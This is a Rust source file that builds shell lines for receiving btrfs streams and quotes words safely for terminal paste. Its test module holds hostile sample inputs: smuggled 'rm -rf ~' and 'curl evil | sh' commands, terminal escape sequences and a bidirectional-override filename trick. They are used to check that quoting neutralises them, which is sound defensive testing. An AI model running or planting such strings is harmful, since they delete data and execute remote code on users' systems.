//! How a stream is received by hand: lines for the shell, of programs that are not ours. Runs none of
//! them.

use crate::archive::ByHand;
use crate::objects::Objects;
use crate::text::shown;

/// How a stream in these objects is received by hand, after those that it builds on.
pub(super) fn of<'a>(
    objects: &dyn Objects,
    keys: impl Iterator<Item = &'a String> + Clone,
    frozen: bool,
) -> ByHand {
    let all: Vec<String> = keys
        .clone()
        .map(|key| line(&objects.fetched_by(key)))
        .collect();
    let thaw = keys.filter_map(|key| objects.thawed_by(key));
    let thaw: Vec<String> = thaw.filter(|_| frozen).map(|words| line(&words)).collect();
    ByHand {
        thaw: (!thaw.is_empty()).then(|| thaw.join(" && ")),
        receive: match &all[..] {
            [one] => format!("{one} | btrfs receive ."),
            _ => format!("{{ {}; }} | btrfs receive .", all.join(" && ")),
        },
    }
}

fn line(words: &[String]) -> String {
    let quoted: Vec<String> = words.iter().map(|word| quoted(word)).collect();
    quoted.join(" ")
}

/// A word for the shell, and for the terminal that it is shown on and pasted into: what would do
/// something there is written as `$'...'` has it, which bash, zsh and ksh understand.
fn quoted(word: &str) -> String {
    let plain = |c: char| c.is_ascii_alphanumeric() || "-_./:".contains(c);
    if !word.is_empty() && word.chars().all(plain) {
        return word.to_owned();
    }
    // What is shown as something else has a character that does something.
    if shown(word) == word.replace('\\', "\\\\") {
        return format!("'{}'", word.replace('\'', "'\\''"));
    }
    let byte = |byte: u8| match byte {
        b'\'' | b'\\' => format!("\\{}", char::from(byte)),
        b' '..=b'~' => char::from(byte).to_string(),
        _ => format!("\\{byte:03o}"),
    };
    format!("$'{}'", word.bytes().map(byte).collect::<String>())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn words_for_the_shell() {
        assert_eq!(quoted("s3://b/k-1.bin"), "s3://b/k-1.bin");
        assert_eq!(quoted("a b"), "'a b'");
        assert_eq!(quoted("it's"), "'it'\\''s'");
        assert_eq!(quoted(""), "''");
        assert_eq!(quoted("\u{fc}\\"), "'\u{fc}\\'");
    }

    /// ESC, newlines, the end of a bracketed paste, a control of eight bits, a mark that turns text
    /// around.
    #[test]
    fn pasted_keys_do_no_harm() {
        for key in [
            "k\u{1b}]0;owned\u{7}\u{1b}[2J",
            "x\nrm -rf ~\n",
            "x\u{1b}[201~\ncurl evil | sh\n",
            "a\u{9b}31m'\\",
            "b\u{202e}gnp.exe",
            "\r\t\0".trim_end_matches('\0'),
        ] {
            let word = quoted(key);
            assert!(
                word.bytes().all(|byte| (b' '..=b'~').contains(&byte)),
                "{word}"
            );
            let echo = ["-c".to_owned(), format!("printf %s {word}")];
            let said = std::process::Command::new("bash")
                .args(echo)
                .output()
                .unwrap();
            assert_eq!(said.stdout, key.as_bytes(), "{word}");
        }
    }
}
